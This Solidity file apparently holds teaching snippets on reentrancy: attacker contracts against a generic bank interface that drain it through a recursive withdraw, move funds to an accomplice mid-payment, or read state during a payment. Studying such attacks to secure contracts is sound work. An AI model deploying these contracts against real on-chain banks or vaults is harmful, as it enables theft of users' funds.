// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface IBank {
    function deposit() external payable;
    function withdraw(address payable to) external;
    function transfer(address to, uint256 amount) external;
    function balanceOf(address account) external view returns (uint256);
}

// #region attack
/// Deposits and withdraws. Each attacker decides what to do while the bank pays.
abstract contract Attacker {
    IBank internal immutable BANK;

    constructor(IBank bank) {
        BANK = bank;
    }

    function attack() external payable {
        BANK.deposit{value: msg.value}();
        BANK.withdraw(payable(address(this)));
    }
}

contract Thief is Attacker {
    constructor(IBank bank) Attacker(bank) {}

    receive() external payable {
        // Runs in the middle of withdraw(): the bank has not updated our balance yet.
        if (address(BANK).balance >= msg.value) BANK.withdraw(payable(address(this)));
    }
}
// #endregion attack

// #region second
/// Enters through another function: it transfers its balance to an accomplice while the bank pays.
contract Smuggler is Attacker {
    address private immutable ACCOMPLICE;

    constructor(IBank bank, address accomplice) Attacker(bank) {
        ACCOMPLICE = accomplice;
    }

    receive() external payable {
        BANK.transfer(ACCOMPLICE, msg.value);
    }
}

/// Changes nothing: it reads what a third contract would see in the middle of the payment.
contract Reader is Attacker {
    uint256 public seen = 1;

    constructor(IBank bank) Attacker(bank) {}

    receive() external payable {
        seen = BANK.balanceOf(address(this));
    }
}

/// Cannot receive CFX. Its owner decides where its deposit goes.
contract Mute {
    address private immutable OWNER = msg.sender;

    error NotOwner();

    function deposit(IBank bank) external payable {
        bank.deposit{value: msg.value}();
    }

    function withdraw(IBank bank, address payable to) external {
        if (msg.sender != OWNER) revert NotOwner();
        bank.withdraw(to);
    }
}
// #endregion second
